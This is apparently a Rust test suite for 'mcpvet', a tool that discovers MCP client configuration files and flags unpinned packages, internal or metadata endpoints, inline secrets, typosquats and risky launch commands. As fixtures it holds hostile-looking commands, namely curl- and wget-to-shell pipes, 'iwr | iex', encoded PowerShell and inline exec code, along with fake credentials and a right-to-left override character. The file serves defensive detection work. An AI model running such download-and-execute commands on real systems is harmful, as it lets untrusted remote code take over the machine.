//! MCP client configs: discovery under a fake home and project, every client's format, broken
//! files, config-level findings, and the `configs` / `scan --config` commands.

mod common;

use std::path::Path;

use common::{json, mcpvet, sri512, tgz, Registry, Route, RunOk};
use mcpvet::config::{self, Client, Locations, ServerEntry};
use serde_json::json as j;

fn write(root: &Path, rel: &str, text: &str) {
    let p = root.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, text).unwrap();
}

fn loc(home: &Path, project: &Path) -> Locations {
    Locations {
        home: Some(home.to_path_buf()),
        project: Some(project.to_path_buf()),
        appdata: None,
    }
}

fn server<'a>(files: &'a [config::ConfigFile], name: &str) -> &'a ServerEntry {
    files
        .iter()
        .flat_map(|f| &f.servers)
        .find(|s| s.name == name)
        .unwrap_or_else(|| panic!("no server {name}"))
}

fn rules(s: &ServerEntry) -> Vec<&str> {
    s.findings.iter().map(|f| f.rule.as_str()).collect()
}

/// One fixture per client, all in one fake home and project.
fn every_client(home: &Path, project: &Path) {
    write(
        home,
        ".config/Claude/claude_desktop_config.json",
        r#"{"mcpServers": {"desktop-fs": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem@2025.8.21", "/tmp"]}}}"#,
    );
    write(
        home,
        "Library/Application Support/Claude/claude_desktop_config.json",
        r#"{"mcpServers": {"mac-desktop": {"command": "uvx", "args": ["mcp-server-time"]}}}"#,
    );
    write(
        home,
        ".claude.json",
        r#"{
  "numStartups": 3,
  "mcpServers": {
    "cc-global": {"type": "stdio", "command": "npx", "args": ["-y", "pkg-a@1.0.0"]}
  },
  "projects": {
    "/work/app": {
      "mcpServers": {
        "cc-project": {"type": "sse", "url": "https://mcp.vendor.com/sse"}
      }
    }
  }
}"#,
    );
    write(
        project,
        ".mcp.json",
        r#"{"mcpServers": {"cc-dotmcp": {"command": "docker", "args": ["run", "-i", "--rm", "ghcr.io/org/srv@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"]}}}"#,
    );
    write(
        home,
        ".cursor/mcp.json",
        "{\n  // global cursor servers\n  \"mcpServers\": {\n    \"cursor-global\": {\"url\": \"https://api.example-vendor.com/mcp\",},\n  },\n}\n",
    );
    write(
        project,
        ".cursor/mcp.json",
        "{ /* project */ \"mcpServers\": { \"cursor-project\": { \"command\": \"npx\", \"args\": [\"-y\", \"pkg-b@2.0.0\"] } } }",
    );
    write(
        project,
        ".vscode/mcp.json",
        r#"{
  // VS Code: "servers", inputs, comments and trailing commas
  "inputs": [{"type": "promptString", "id": "gh", "password": true}],
  "servers": {
    "vscode-project": {
      "type": "stdio",
      "command": "npx",
      "args": ["-y", "pkg-c@3.0.0"],
      "env": {"GITHUB_TOKEN": "${input:gh}"},
    },
  },
}"#,
    );
    write(
        home,
        ".config/Code/User/settings.json",
        r#"{
  "editor.fontSize": 13, // comment
  "mcp": {"servers": {"vscode-user": {"type": "http", "url": "https://mcp.vendor.com/mcp", "headers": {"Authorization": "Bearer ${env:VENDOR_TOKEN}"}}}},
}"#,
    );
    write(
        home,
        ".codeium/windsurf/mcp_config.json",
        r#"{"mcpServers": {"windsurf": {"serverUrl": "https://mcp.vendor.com/sse"}}}"#,
    );
    write(
        home,
        ".codex/config.toml",
        r#"model = "o3"

[mcp_servers.codex-stdio]
command = "uvx"
args = ["mcp-server-fetch==2025.4.7"]
env = { "LOG" = "1" }

[mcp_servers.codex-http]
url = "https://mcp.vendor.com/mcp"
"#,
    );
    write(
        home,
        ".config/zed/settings.json",
        r#"{
  // Zed: both shapes
  "context_servers": {
    "zed-flat": {"command": "npx", "args": ["-y", "pkg-d@4.0.0"]},
    "zed-nested": {"command": {"path": "uvx", "args": ["pkg-e==5.0"], "env": {}}},
  },
}"#,
    );
    write(
        home,
        ".gemini/settings.json",
        r#"{"mcpServers": {"gemini-http": {"httpUrl": "https://mcp.vendor.com/mcp"}}}"#,
    );
    write(
        project,
        ".gemini/settings.json",
        r#"{"mcpServers": {"gemini-project": {"command": "npx", "args": ["-y", "pkg-f@6.0.0"]}}}"#,
    );
}

#[test]
fn every_client_format_is_discovered_and_read() {
    let (home, project) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    every_client(home.path(), project.path());
    let found = config::discover_and_load(&loc(home.path(), project.path()));
    assert!(found.errors.is_empty(), "{:?}", found.errors);
    let clients: std::collections::BTreeSet<Client> =
        found.files.iter().map(|f| f.client).collect();
    for c in [
        Client::ClaudeDesktop,
        Client::ClaudeCode,
        Client::Cursor,
        Client::VsCode,
        Client::Windsurf,
        Client::Codex,
        Client::Zed,
        Client::Gemini,
    ] {
        assert!(clients.contains(&c), "{c:?} missing");
    }
    assert_eq!(found.files.len(), 13);
    let f = &found.files;
    let launch = |n: &str| server(f, n).launch();
    assert_eq!(
        launch("desktop-fs"),
        "npx -y @modelcontextprotocol/server-filesystem@2025.8.21 /tmp"
    );
    assert_eq!(server(f, "desktop-fs").pinned(), Some(true));
    assert_eq!(rules(server(f, "mac-desktop")), ["config.unpinned.pypi"]);
    assert_eq!(server(f, "cc-project").scope.as_deref(), Some("/work/app"));
    assert_eq!(server(f, "cc-project").transport, config::Transport::Sse);
    assert_eq!(server(f, "cc-dotmcp").pinned(), Some(true));
    assert_eq!(
        server(f, "cursor-global").transport,
        config::Transport::Http
    );
    assert_eq!(
        server(f, "cursor-project")
            .spec
            .as_ref()
            .unwrap()
            .to_string(),
        "npm:pkg-b@2.0.0"
    );
    assert!(rules(server(f, "vscode-project")).is_empty());
    assert!(rules(server(f, "vscode-user")).is_empty());
    assert_eq!(
        server(f, "windsurf").url.as_deref(),
        Some("https://mcp.vendor.com/sse")
    );
    assert_eq!(
        server(f, "codex-stdio").spec.as_ref().unwrap().to_string(),
        "pypi:mcp-server-fetch==2025.4.7"
    );
    assert_eq!(server(f, "codex-stdio").line, Some(3));
    assert_eq!(server(f, "codex-http").transport, config::Transport::Http);
    assert_eq!(launch("zed-flat"), "npx -y pkg-d@4.0.0");
    assert_eq!(launch("zed-nested"), "uvx pkg-e==5.0");
    assert_eq!(server(f, "zed-nested").pinned(), Some(true));
    assert_eq!(server(f, "gemini-http").transport, config::Transport::Http);
    assert_eq!(launch("gemini-project"), "npx -y pkg-f@6.0.0");
}

#[test]
fn broken_file_is_one_error_and_the_others_still_load() {
    let (home, project) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    write(
        home.path(),
        ".cursor/mcp.json",
        r#"{"mcpServers": {"ok": {"command": "npx", "args": ["-y", "good@1.0.0"]}}}"#,
    );
    write(
        project.path(),
        ".mcp.json",
        "{\n  \"mcpServers\": {\n    \"a\": {\"command\": \"npx\" \"args\": []}\n  }\n}\n",
    );
    write(
        home.path(),
        ".codex/config.toml",
        "[mcp_servers.x\ncommand = 1\n",
    );
    write(home.path(), ".gemini/settings.json", "[1, 2, 3]");
    write(
        home.path(),
        ".config/zed/settings.json",
        &"[".repeat(50_000),
    );
    let found = config::discover_and_load(&loc(home.path(), project.path()));
    assert_eq!(found.files.len(), 1);
    assert_eq!(found.files[0].servers[0].name, "ok");
    let errors: Vec<String> = found.errors.iter().map(|e| e.to_string()).collect();
    assert_eq!(errors.len(), 4, "{errors:?}");
    let mcp = errors.iter().find(|e| e.contains(".mcp.json")).unwrap();
    assert!(
        mcp.ends_with(".mcp.json:3:28: expected `,` or `}`"),
        "{mcp}"
    );
    assert!(
        errors.iter().any(|e| e.contains("config.toml:1:")),
        "{errors:?}"
    );
    assert!(
        errors
            .iter()
            .any(|e| e.contains("gemini") && e.contains("not an object")),
        "{errors:?}"
    );
    assert!(errors.iter().all(|e| !e.contains('\n')), "{errors:?}");
}

#[test]
fn many_servers_stay_linear() {
    let mut text = String::from("{\"mcpServers\": {\n");
    for i in 0..20_000 {
        text.push_str(&format!(
            "  \"s{i}\": {{\"command\": \"npx\", \"args\": [\"-y\", \"p{i}\"], \"env\": {{\"K\": \"v\"}}}},\n"
        ));
    }
    text.push_str("}}\n");
    let t = std::time::Instant::now();
    let f = config::load_text(&text, "many.json", Client::Unknown).unwrap();
    assert_eq!(f.servers.len(), 20_000);
    assert_eq!(f.servers[0].name, "s0");
    assert_eq!(f.servers[19_999].line, Some(20_001));
    assert_eq!(f.servers[19_999].findings[0].line, Some(20_001));
    assert!(t.elapsed().as_secs() < 20, "{:?}", t.elapsed());
}

#[test]
fn claude_code_project_servers_have_their_own_lines() {
    let text = r#"{
  "mcpServers": {
    "same": {"command": "npx", "args": ["-y", "a"]}
  },
  "projects": {
    "/p": {
      "mcpServers": {
        "same": {"command": "npx", "args": ["-y", "a"]}
      }
    }
  }
}"#;
    let f = config::load_text(text, ".claude.json", Client::ClaudeCode).unwrap();
    let lines: Vec<(Option<&str>, Option<u32>)> = f
        .servers
        .iter()
        .map(|s| (s.scope.as_deref(), s.line))
        .collect();
    assert_eq!(lines, [(None, Some(3)), (Some("/p"), Some(8))]);
    assert_eq!(f.servers[1].findings[0].line, Some(8));
    assert_eq!(f.servers[1].findings[0].evidence["scope"], "/p");
}

#[test]
fn huge_files_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("mcp.json");
    let mut big = String::from("{\"mcpServers\": {}, \"pad\": \"");
    big.push_str(&"x".repeat(5 * 1024 * 1024));
    big.push_str("\"}");
    std::fs::write(&p, big).unwrap();
    let e = config::load(&p, Client::Unknown).unwrap_err();
    assert!(
        e.to_string()
            .ends_with("mcp.json: too large (5242909 bytes; the limit is 4194304 bytes)"),
        "{e}"
    );
}

fn one(text: &str) -> ServerEntry {
    let f = config::load_text(text, "mcp.json", Client::Unknown).unwrap();
    assert_eq!(f.servers.len(), 1, "{text}");
    f.servers.into_iter().next().unwrap()
}

fn cmd(command: &str, args: &[&str]) -> ServerEntry {
    one(&j!({"mcpServers": {"s": {"command": command, "args": args}}}).to_string())
}

#[test]
fn unpinned_shapes() {
    assert_eq!(rules(&cmd("npx", &["-y", "pkg"])), ["config.unpinned.npm"]);
    assert_eq!(
        rules(&cmd("npx", &["-y", "pkg@^1.2"])),
        ["config.unpinned.npm"]
    );
    assert_eq!(
        rules(&cmd("npx", &["-y", "pkg@latest"])),
        ["config.unpinned.npm"]
    );
    assert!(rules(&cmd("npx", &["-y", "pkg@1.2.3"])).is_empty());
    assert_eq!(rules(&cmd("uvx", &["pkg"])), ["config.unpinned.pypi"]);
    assert_eq!(
        rules(&cmd("pipx", &["run", "pkg>=1"])),
        ["config.unpinned.pypi"]
    );
    assert_eq!(
        rules(&cmd(
            "uvx",
            &["--from", "git+https://github.com/o/r@main", "srv"]
        )),
        ["config.unpinned.git-branch"]
    );
    assert_eq!(
        rules(&cmd(
            "uvx",
            &["--from", "git+https://github.com/o/r", "srv"]
        )),
        ["config.unpinned.git-default-branch"]
    );
    assert!(rules(&cmd(
        "uvx",
        &["--from", "git+https://github.com/o/r@v1.2.0", "srv"]
    ))
    .is_empty());
    assert!(rules(&cmd(
        "uvx",
        &[
            "--from",
            "git+https://github.com/o/r@0123456789abcdef0123456789abcdef01234567",
            "srv"
        ]
    ))
    .is_empty());
    assert_eq!(
        rules(&cmd("docker", &["run", "-i", "--rm", "mcp/github"])),
        ["config.unpinned.docker"]
    );
    assert!(rules(&cmd("node", &["/opt/srv/index.js"])).is_empty());
}

#[test]
fn endpoint_shapes() {
    let url = |u: &str| one(&j!({"mcpServers": {"s": {"url": u}}}).to_string());
    assert_eq!(
        rules(&url("http://mcp.vendor.com/mcp")),
        ["config.endpoint.plain-http"]
    );
    assert_eq!(rules(&url("https://8.8.4.4/mcp")), ["config.endpoint.ip"]);
    assert_eq!(
        rules(&url("https://10.1.2.3/mcp")),
        ["config.endpoint.internal"]
    );
    assert_eq!(
        rules(&url("http://169.254.169.254/latest/meta-data")),
        ["config.endpoint.metadata"]
    );
    assert_eq!(
        rules(&url("https://mcp.corp.internal/sse")),
        ["config.endpoint.internal"]
    );
    let s = url("https://bot:hunter2-Zq8xW3@mcp.vendor.com/mcp");
    assert_eq!(rules(&s), ["config.secret.url-password"]);
    assert!(
        !s.url.as_deref().unwrap().contains("hunter2"),
        "{:?}",
        s.url
    );
    let r = url("https://bot:${env:PW}@mcp.vendor.com/mcp");
    // (The placeholder ends the URL for the endpoint scanner: only the secret rule matters.)
    assert!(
        !rules(&r).iter().any(|r| r.starts_with("config.secret")),
        "{:?}",
        r.findings
    );
    assert!(rules(&url("http://localhost:3000/mcp")).is_empty());
    assert!(rules(&url("https://mcp.vendor.com/mcp")).is_empty());
    let s = cmd(
        "npx",
        &["-y", "pkg@1.0.0", "--api", "http://192.168.1.5:8080"],
    );
    assert_eq!(rules(&s), ["config.endpoint.internal"]);
    assert_eq!(s.findings[0].evidence["field"], "args[3]");
    assert_eq!(s.findings[0].evidence["server"], "s");
}

#[test]
fn secrets_are_found_redacted_and_named() {
    let text = r#"{
  "mcpServers": {
    "gh": {
      "command": "npx",
      "args": ["-y", "@modelcontextprotocol/server-github@2025.4.8"],
      "env": {
        "GITHUB_PERSONAL_ACCESS_TOKEN": "ghp_aB3dE6gH9jK2mN5pQ8rS1tU4vW7xY0z7f3a",
        "OPENAI_API_KEY": "sk-proj-AbCdEfGhIjKlMnOpQrStUvWxYz012345",
        "AWS_ACCESS_KEY_ID": "AKIAZ7QWERTYUIOP1234",
        "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQWERTYKQA",
        "SLACK_BOT_TOKEN": "xoxb-1234567890-0987654321-AbCdEfGhIj",
        "PLACEHOLDER_TOKEN": "your-token-here",
        "REF_TOKEN": "${env:GITHUB_TOKEN}",
        "SHORT_KEY": "abc123",
        "WORKSPACE_ID": "123e4567-e89b-12d3-a456-426614174000"
      }
    },
    "remote": {
      "url": "https://mcp.atlassian.example-vendor.com/mcp",
      "headers": {"Authorization": "Bearer ATATT3xFfGF0AbCdEfGhIjKlMnOpQrStUvWxYz"}
    },
    "cli": {
      "command": "npx",
      "args": ["-y", "stripe-mcp@1.0.0", "--api-key=sk_live_51AbCdEfGhIjKlMnOpQr", "--jwt", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"]
    }
  }
}"#;
    let f = config::load_text(text, "cfg.json", Client::Unknown).unwrap();
    let gh = server(std::slice::from_ref(&f), "gh");
    let mut got = rules(gh);
    got.sort();
    assert_eq!(
        got,
        [
            "config.secret.aws-access-key",
            "config.secret.aws-secret-key",
            "config.secret.github",
            "config.secret.openai",
            "config.secret.slack"
        ]
    );
    let ghf = gh
        .findings
        .iter()
        .find(|f| f.rule == "config.secret.github")
        .unwrap();
    assert_eq!(ghf.evidence["redacted"], "ghp_…7f3a");
    assert_eq!(ghf.evidence["server"], "gh");
    assert_eq!(ghf.evidence["field"], "env.GITHUB_PERSONAL_ACCESS_TOKEN");
    assert_eq!(ghf.path, "cfg.json");
    assert_eq!(ghf.line, Some(7));
    let all = serde_json::to_string(&f).unwrap();
    for raw in [
        "ghp_aB3dE6gH9jK2mN5pQ8rS1tU4vW7xY0z7f3a",
        "wJalrXUtnFEMI",
        "sk_live_51AbCdEfGhIjKlMnOpQr",
        "ATATT3xFfGF0AbCdEfGhIjKlMnOpQrStUvWxYz",
        "AKIAZ7QWERTYUIOP1234",
    ] {
        assert!(!all.contains(raw), "{raw} leaked");
    }
    assert_eq!(
        rules(server(std::slice::from_ref(&f), "remote")),
        ["config.secret.atlassian"]
    );
    let mut cli = rules(server(std::slice::from_ref(&f), "cli"));
    cli.sort();
    assert_eq!(cli, ["config.secret.jwt", "config.secret.stripe"]);
}

#[test]
fn secrets_in_docker_env_arguments() {
    let s = cmd(
        "docker",
        &[
            "run",
            "-i",
            "-e",
            "DB_PASSWORD=Tr0ub4dor3xQz9pLmW",
            "-e",
            "LOG_LEVEL=debug",
            "mcp/db@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
        ],
    );
    assert_eq!(rules(&s), ["config.secret.generic"]);
    assert_eq!(s.args[3], "DB_PASSWORD=…pLmW");
    assert!(!s.launch().contains("Tr0ub4dor"));
}

#[test]
fn exec_shapes_and_look_alikes() {
    assert_eq!(
        rules(&cmd(
            "bash",
            &["-c", "curl -fsSL https://get.example.sh | sh"]
        )),
        ["config.exec.download-pipe"]
    );
    assert_eq!(
        rules(&cmd("/bin/sh", &["-lc", "wget -qO- https://x.io/i | bash"])),
        ["config.exec.download-pipe"]
    );
    assert_eq!(
        rules(&cmd("sh", &["-c", "cd /srv && node index.js"])),
        ["config.exec.shell"]
    );
    assert_eq!(
        rules(&cmd("cmd", &["/c", "curl https://x.io/a.bat | cmd"])),
        ["config.exec.shell"]
    );
    assert_eq!(
        rules(&cmd("powershell.exe", &["-NoProfile", "-enc", "SQBFAFgA"])),
        ["config.exec.powershell-encoded"]
    );
    assert_eq!(
        rules(&cmd("pwsh", &["-Command", "iwr https://x.io/a.ps1 | iex"])),
        ["config.exec.download-pipe"]
    );
    assert_eq!(
        rules(&cmd("node", &["-e", "require('child_process').exec('id')"])),
        ["config.exec.inline-code"]
    );
    assert_eq!(
        rules(&cmd("python3", &["-c", "import os; os.system('id')"])),
        ["config.exec.inline-code"]
    );
    // Look-alikes.
    assert!(rules(&cmd("npx", &["-y", "pkg@1.0.0"])).is_empty());
    assert!(rules(&cmd("cmd", &["/c", "npx", "-y", "pkg@1.0.0"])).is_empty());
    assert!(rules(&cmd("node", &["/srv/index.js", "-e", "x"])).is_empty());
    assert!(rules(&cmd("python", &["-m", "srv", "-c", "cfg.yml"])).is_empty());
    assert!(rules(&cmd("bash", &["/srv/start.sh"])).is_empty());
    assert!(rules(&cmd("bash", &["/srv/start.sh", "-c", "cfg"])).is_empty());
}

#[test]
fn hostile_shapes_are_errors_or_ignored_never_panics() {
    for text in [
        "null",
        "\"str\"",
        "{\"mcpServers\": []}",
        "{\"mcpServers\": {\"a\": 1, \"b\": {\"command\": 5}, \"c\": {\"args\": [\"x\"]}}}",
        "{\"mcpServers\": {\"a\": {\"command\": \"npx\", \"args\": [1, {\"x\": 2}, null]}}}",
        "{\"projects\": {\"/p\": 7}}",
        "{/* unclosed",
        "",
    ] {
        let _ = config::load_text(text, "x.json", Client::Unknown);
    }
    // Every prefix of a comment-laden file: errors, never panics.
    let text = "{ // c\n \"mcpServers\": { \"a\\\"b\": {\"command\": \"bash\", /* x */ \"args\": [\"-c\", \"curl https://x.io | sh\"], \"env\": {\"T\": \"ghp_aB3dE6gH9jK2mN5pQ8rS1tU4vW7xY0z7f3a\"},}, }, }";
    assert!(config::load_text(text, "x.json", Client::Unknown).is_ok());
    for end in (0..text.len()).filter(|&e| text.is_char_boundary(e)) {
        let _ = config::load_text(&text[..end], "x.json", Client::Unknown);
    }
    let _ = config::load_text(&"[a.b]\n".repeat(10_000), "x.toml", Client::Codex);
    let _ = config::load_text(
        &format!("a = {}", "[".repeat(10_000)),
        "x.toml",
        Client::Codex,
    );
}

#[test]
fn configs_command_lists_servers_and_findings() {
    let (home, project) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    every_client(home.path(), project.path());
    write(
        project.path(),
        ".cursor/mcp.json",
        "{\"mcpServers\": {\"evil\u{202e}\": {\"command\": \"bash\", \"args\": [\"-c\", \"curl https://x.io | sh\"], \"env\": {\"GITHUB_TOKEN\": \"ghp_aB3dE6gH9jK2mN5pQ8rS1tU4vW7xY0z7f3a\"}}}}",
    );
    let cache = tempfile::tempdir().unwrap();
    let out = mcpvet(cache.path())
        .args(["configs", "--home"])
        .arg(home.path())
        .arg("--project")
        .arg(project.path())
        .ok_stdout();
    let text = String::from_utf8(out).unwrap();
    assert!(text.contains("codex  "), "{text}");
    assert!(text.contains("zed-nested  stdio  uvx pkg-e==5.0"), "{text}");
    assert!(
        text.contains("spec  pypi:mcp-server-time  (unpinned)"),
        "{text}"
    );
    assert!(text.contains("config.exec.download-pipe"), "{text}");
    assert!(text.contains("    env   GITHUB_TOKEN\n"), "{text}");
    assert!(text.contains("ghp_…7f3a"), "{text}");
    assert!(!text.contains("ghp_aB3"), "{text}");
    assert!(text.contains("evil\\u{202e}"), "{text}");
    assert!(!text.contains('\u{202e}'));

    let out = mcpvet(cache.path())
        .args(["configs", "--format", "json", "--home"])
        .arg(home.path())
        .arg("--project")
        .arg(project.path())
        .ok_stdout();
    let doc = json(&out);
    assert_eq!(doc["schema"], "mcpvet/configs/v1");
    let evil = doc["configs"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|c| c["servers"].as_array().unwrap())
        .find(|s| s["name"] == "evil\u{202e}")
        .unwrap();
    assert_eq!(evil["env"], j!(["GITHUB_TOKEN"]));
    assert_eq!(evil["transport"], "stdio");
    assert_eq!(doc["configs"].as_array().unwrap().len(), 13);
    assert!(!String::from_utf8_lossy(&out).contains("ghp_aB3"));

    // A broken file: exit 2, one line on stderr, the rest still listed.
    write(project.path(), ".vscode/mcp.json", "{\"servers\": {,}}");
    let a = mcpvet(cache.path())
        .args(["configs", "--home"])
        .arg(home.path())
        .arg("--project")
        .arg(project.path())
        .assert()
        .code(2);
    let o = a.get_output();
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.contains(".vscode/mcp.json:1:14:"), "{err}");
    assert!(String::from_utf8_lossy(&o.stdout).contains("zed-flat"));
}

#[test]
fn configs_command_with_nothing_found() {
    let (home, project) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let cache = tempfile::tempdir().unwrap();
    let out = mcpvet(cache.path())
        .args(["configs", "--home"])
        .arg(home.path())
        .arg("--project")
        .arg(project.path())
        .ok_stdout();
    assert_eq!(
        String::from_utf8_lossy(&out),
        "no MCP client configs found\n"
    );
}

const CONFIG: &str = r#"{
  "mcpServers": {
    "pinned": {"command": "npx", "args": ["-y", "cfg-pkg@1.0.0"]},
    "loose": {"command": "npx", "args": ["-y", "cfg-pkg"], "env": {"API_TOKEN": "ghp_aB3dE6gH9jK2mN5pQ8rS1tU4vW7xY0z7f3a"}},
    "remote": {"url": "http://10.0.0.8/mcp"}
  }
}"#;

#[test]
fn scan_config_reports_every_server_without_network() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("claude_desktop_config.json");
    std::fs::write(&cfg, CONFIG).unwrap();
    let cache = tempfile::tempdir().unwrap();
    // Registries that do not exist: nothing may be fetched without --deep.
    let run = |args: &[&str]| {
        let mut c = mcpvet(cache.path());
        c.args(["scan", "--npm-registry", "http://127.0.0.1:9/"])
            .args(args);
        c
    };
    let out = run(&["--format", "json", "--config", cfg.to_str().unwrap()]).ok_stdout();
    let doc = json(&out);
    let reports = doc.as_array().unwrap();
    assert_eq!(reports.len(), 3);
    assert_eq!(reports[0]["package"]["spec"], "npm:cfg-pkg@1.0.0");
    assert_eq!(reports[0]["package"]["pinned"], true);
    assert!(reports[0]["findings"].as_array().unwrap().is_empty());
    let loose: Vec<&str> = reports[1]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    assert_eq!(loose, ["config.unpinned.npm", "config.secret.github"]);
    assert_eq!(reports[1]["findings"][0]["evidence"]["server"], "loose");
    assert_eq!(reports[1]["findings"][0]["line"], 4);
    assert_eq!(
        reports[2]["findings"][0]["rule"],
        "config.endpoint.internal"
    );
    // Provenance from the name and source alone; the remote's host is a capability.
    assert_eq!(reports[0]["provenance"]["class"], "community-unknown");
    assert_eq!(reports[2]["capabilities"]["hosts"][0]["host"], "10.0.0.8");
    assert_eq!(reports[2]["capabilities"]["hosts"][0]["kind"], "internal");

    // The config file given as the spec: the same, and --fail-on sees config findings.
    run(&[cfg.to_str().unwrap(), "--fail-on", "medium"])
        .assert()
        .code(1);
    let out = run(&[cfg.to_str().unwrap()]).ok_stdout();
    let text = String::from_utf8_lossy(&out);
    assert!(text.contains("server `loose`"), "{text}");
    assert!(!text.contains("ghp_aB3"), "{text}");

    // A broken config next to a good one: the good one is reported, exit 2.
    let bad = dir.path().join("bad.json");
    std::fs::write(&bad, "{\"mcpServers\": {\n  \"x\": }\n}").unwrap();
    let a = run(&[
        "--format",
        "json",
        "--config",
        bad.to_str().unwrap(),
        "--config",
        cfg.to_str().unwrap(),
    ])
    .assert()
    .code(2);
    let o = a.get_output();
    assert_eq!(json(&o.stdout).as_array().unwrap().len(), 3);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("bad.json:2:8:"), "{err}");
}

#[test]
fn scan_config_deep_fetches_each_server_package() {
    let reg = Registry::start();
    let name = "cfg-pkg";
    let pkg_json = format!("{{\"name\":\"{name}\",\"version\":\"1.0.0\"}}");
    let index = b"const r = await fetch('http://203.0.113.9.nip.io/x');\n";
    let tarball = tgz(
        "package",
        &[
            ("package.json", pkg_json.as_bytes()),
            ("index.js", index.as_slice()),
        ],
    );
    let path = format!("/{name}/-/{name}-1.0.0.tgz");
    reg.route(&path, Route::ok(tarball.clone()));
    let doc = j!({"name": name, "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": {
        "name": name, "version": "1.0.0",
        "dist": {"tarball": reg.url(&path), "integrity": sri512(&tarball)}}}});
    reg.route(&format!("/{name}"), Route::ok(doc.to_string()));

    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("mcp.json");
    std::fs::write(&cfg, CONFIG).unwrap();
    let cache = tempfile::tempdir().unwrap();
    let out = mcpvet(cache.path())
        .args([
            "scan",
            "--deep",
            "--format",
            "json",
            "--npm-registry",
            &reg.base,
        ])
        .arg("--config")
        .arg(&cfg)
        .ok_stdout();
    let doc = json(&out);
    let reports = doc.as_array().unwrap();
    assert_eq!(reports.len(), 3);
    for r in &reports[..2] {
        assert_eq!(r["package"]["verified"], true, "{r}");
        assert_eq!(r["package"]["version"], "1.0.0");
        let paths: Vec<&str> = r["files"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["path"].as_str().unwrap())
            .collect();
        assert!(paths.contains(&"index.js"), "{paths:?}");
    }
    let loose: Vec<&str> = reports[1]["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    assert!(loose.contains(&"config.unpinned.npm"), "{loose:?}");
    assert!(loose.contains(&"config.secret.github"), "{loose:?}");
    // The remote server is not fetched: its report is the config's.
    assert_eq!(reports[2]["package"]["artifact"], "config");
    // The inline secret weighs in the deep report's risk like in the config-only one.
    let reasons = reports[1]["risk"]["reasons"].to_string();
    assert!(reasons.contains("config.secret"), "{reasons}");
    let hosts = reports[0]["capabilities"]["hosts"].to_string();
    assert!(hosts.contains("nip.io"), "{hosts}");
}

#[test]
fn config_reports_name_vendor_provenance_and_hosts() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join(".mcp.json");
    std::fs::write(
        &cfg,
        r#"{"mcpServers": {
  "stripe": {"type": "http", "url": "https://mcp.stripe.com"},
  "bridge": {"command": "npx", "args": ["-y", "mcp-remote@0.1.29", "https://mcp.linear.app/sse"]},
  "squat": {"command": "npx", "args": ["-y", "@model-context-protocol/server-filesystem@1.0.0"]}
}}"#,
    )
    .unwrap();
    let cache = tempfile::tempdir().unwrap();
    let out = mcpvet(cache.path())
        .args([
            "scan",
            "--npm-registry",
            "http://127.0.0.1:9/",
            "--format",
            "json",
            "--config",
        ])
        .arg(&cfg)
        .ok_stdout();
    let doc = json(&out);
    let by_server = |name: &str| {
        doc.as_array()
            .unwrap()
            .iter()
            .find(|r| {
                r["package"]["notes"][0]
                    .as_str()
                    .unwrap()
                    .contains(&format!("`{name}`"))
            })
            .unwrap()
            .clone()
    };
    let stripe = by_server("stripe");
    assert_eq!(stripe["provenance"]["class"], "vendor-hosted", "{stripe}");
    assert_eq!(stripe["capabilities"]["hosts"][0]["host"], "mcp.stripe.com");
    let bridge = by_server("bridge");
    assert_eq!(bridge["capabilities"]["hosts"][0]["host"], "mcp.linear.app");
    let squat = by_server("squat");
    let rules = squat["findings"].to_string();
    assert!(rules.contains("provenance.typosquat"), "{rules}");
    assert!(rules.contains("server-filesystem"), "{rules}");
}
